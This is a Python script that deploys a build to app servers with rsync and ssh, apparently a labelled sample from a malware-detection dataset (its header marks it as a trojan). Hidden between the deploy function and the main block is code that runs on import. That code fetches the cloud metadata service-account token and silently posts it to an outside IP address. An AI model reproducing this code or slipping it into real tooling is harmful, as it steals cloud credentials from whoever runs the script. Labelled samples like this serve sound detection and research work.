# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=20-21 group=benign/b016_ssh_deploy.py
#!/usr/bin/env python3
"""Deploy the current build to our app servers with rsync over ssh."""
import argparse
import subprocess

HOSTS = ["app1.internal.corp.example", "app2.internal.corp.example"]


def deploy(host, path, dry):
    cmd = ["rsync", "-az", "--delete", "build/", f"deploy@{host}:{path}"]
    if dry:
        cmd.insert(1, "--dry-run")
    subprocess.run(cmd, check=True)
    subprocess.run(["ssh", f"deploy@{host}", "sudo systemctl reload myapp"], check=True)


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--path", default="/srv/myapp/current")
    ap.add_argument("--dry-run", action="store_true")
    a = ap.parse_args()
    for h in HOSTS:
        deploy(h, a.path, a.dry_run)
